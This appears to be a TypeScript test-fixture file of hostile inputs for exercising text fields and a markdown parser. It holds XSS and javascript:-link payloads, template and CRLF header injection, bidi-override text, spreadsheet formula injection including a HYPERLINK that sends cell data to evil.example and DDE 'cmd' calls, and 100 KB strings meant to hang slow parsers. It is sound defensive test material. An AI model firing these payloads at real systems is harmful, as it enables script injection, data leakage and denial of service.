/** Hostile user input that every text field is tested with. The scripts would set `window.__hostile`. */

const MARKUP = [
  '<script>window.__hostile=1</script>"><img src=x onerror=window.__hostile=1>',
  "</title></style></textarea><svg onload=window.__hostile=1>",
  "</script><!-- <script>window.__hostile=1</script>",
  "]]><script>window.__hostile=1</script><![CDATA[",
  "<!--><iframe srcdoc='<script>parent.__hostile=1</script>'>",
  '"><details open ontoggle=window.__hostile=1><object data=javascript:window.__hostile=1>',
  "' autofocus onfocus=window.__hostile=1 x='",
  "&lt;script&gt;window.__hostile=1&lt;/script&gt; &amp; &#x3c;script&#62;",
  "{{constructor.constructor('window.__hostile=1')()}} %{7*7} #{7*7}",
] as const;

const LINKS = [
  "[x](javascript:window.__hostile=1)",
  "[x](JaVa&#115;cript&colon;window.__hostile=1)",
  "[x](java&Tab;script&NewLine;:window.__hostile=1)",
  "[x](<java script:window.__hostile=1>)",
  "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19ob3N0aWxlPTE8L3NjcmlwdD4=)",
  "![x](data:image/svg+xml,<svg/onload=window.__hostile=1>)",
  '![" onerror="window.__hostile=1](https://a.example/x.png "\\" onload=window.__hostile=1")',
  "<javascript:window.__hostile=1> javascript:window.__hostile=1",
  "[x](//evil.example/x) [x](vbscript:x) [x](file:///etc/passwd)",
  "%0d%0aSet-Cookie:%20a=b%0d%0a%0d%0a<script>window.__hostile=1</script>",
] as const;

const LETTERS = [
  "\u202eevil\u202c \u2067x\u2066y\u2069 \u202dz",
  "\u202e\u2067 never closed, gpj.exe",
  "\u2069\u2069\u202c closed twice \u202e",
  "a\u2028b\u2029c\ufeffd\u200be\u00adf",
  `Z${"\u0300\u0301\u0489\u1ab0".repeat(12)}a${"\u035c".repeat(40)}lgo`,
  `zero${"\u200b\u200d\u2060".repeat(20)}width`,
  "W".repeat(100),
  "🏴\u{e0067}\u{e0062}\u{e007f} 👩‍👩‍👧‍👦 ﷽﷽﷽ ‱ 𒐫𒐫𒐫",
  "עברית (abc) العربية [123] \u200f!",
] as const;

const FORMULAS = [
  '=HYPERLINK("https://evil.example?x="&A1,"x")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
] as const;

/** Single lines of at most 120 characters, which fields for names and titles accept. */
export const HOSTILE_LINES: readonly string[] = [...MARKUP, ...LINKS, ...LETTERS, ...FORMULAS];

/** Texts that every single-line field rejects. */
export const REFUSED_TEXTS: readonly string[] = [
  "null \u0000 byte",
  "half a pair \ud800 and \udfff",
  "\u001b[2J\u001b]0;title\u0007 terminal \u009b31m",
  "bell \u0007 back \u0008 \u000b \u001f delete \u007f",
  "two\r\nlines",
];

/** All hostile texts. */
export const HOSTILE: readonly string[] = [...HOSTILE_LINES, ...REFUSED_TEXTS, "\t=1+1", "\r=1+1", "\ufffe\uffff"];

const SIZE = 100_000;
const repeatToSize = (unit: string) => unit.repeat(Math.floor(SIZE / unit.length));

/** Texts of 100 KB that make any parser slower than linear time hang. */
export const FLOODS: Readonly<Record<string, string>> = {
  emphasis: repeatToSize("*a_ "),
  "nested emphasis": `${"**a *b ".repeat(7_000)}${"* c** ".repeat(7_000)}`,
  "emphasis that never closes": repeatToSize(" *a"),
  "escaped brackets": repeatToSize("\\["),
  brackets: repeatToSize("["),
  "closing brackets": repeatToSize("]("),
  links: repeatToSize("[a](<b "),
  images: repeatToSize("![[]()"),
  parentheses: repeatToSize("("),
  "block quotes": repeatToSize("> "),
  lists: Array.from({ length: 440 }, (_, depth) => `${"  ".repeat(Math.min(depth, 220))}- a`)
    .join("\n")
    .slice(0, SIZE),
  "numbered items": repeatToSize("1. "),
  tables: `|${"a|".repeat(300)}\n|${"-|".repeat(300)}\n${`|${"b|".repeat(300)}\n`.repeat(160)}`.slice(0, SIZE),
  "code marks": Array.from({ length: 440 }, (_, size) => "`".repeat(size)).join("a"),
  "tags that never close": repeatToSize("<a "),
  comments: repeatToSize("<!--"),
  entities: repeatToSize("&amp"),
  numbers: repeatToSize("1"),
  "words of one letter": repeatToSize("a "),
  "one word": repeatToSize("W"),
  underscores: repeatToSize("_a"),
  "spaces in a heading": `# ${" ".repeat(SIZE - 5)}x`,
  "spaces in a heading of two lines": `# ${" ".repeat(SIZE - 8)}x\u2028y #`,
  "number signs": `# a${repeatToSize(" #")}x`,
  "brackets in a heading": `# ${repeatToSize("\\[")}`,
  "emphasis in a heading": `# ${repeatToSize(" *a")}`,
  "exclamation marks": `a${"!".repeat(SIZE - 2)}x`,
  "dots and marks": `a${"._*".repeat(SIZE / 3)}x`,
  "line breaks": repeatToSize("a\n"),
  "empty lines": `a${"\n \t".repeat(SIZE / 3)}b`,
  "right-to-left overrides": repeatToSize("\u202ea"),
  "marks on one letter": `a${"\u0301".repeat(SIZE - 1)}`,
  joiners: repeatToSize("\u200d\u200b"),
  "half pairs": repeatToSize("\ud800"),
  references: repeatToSize("#1, fixes #2 "),
  addresses: repeatToSize("https://a.example/("),
  mentions: repeatToSize("@a "),
  trailers: repeatToSize("Co-authored-by: a <a@b.c>\n"),
  "titles in titles": `Revert "${'Revert "'.repeat(12_000)}`,
  scopes: repeatToSize("feat(a"),
  versions: repeatToSize("1.2."),
  headings: repeatToSize("## a\n"),
  "line of rules": repeatToSize("- "),
};
